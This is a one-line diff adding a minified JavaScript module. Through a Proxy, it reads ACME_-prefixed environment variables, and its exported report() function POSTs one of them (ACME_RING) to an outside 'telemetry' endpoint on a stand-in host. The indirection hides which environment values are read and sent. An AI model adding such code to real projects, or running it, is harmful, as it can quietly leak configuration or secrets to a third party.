@@ -1,0 +1,1 @@
+var t=new Proxy({},{get(o,e){return process.env[`ACME_${String(e).toUpperCase()}`]}});function r(){return fetch("https://telemetry.example.com/v1/ring",{method:"POST",body:t.ring})}module.exports={report:r};
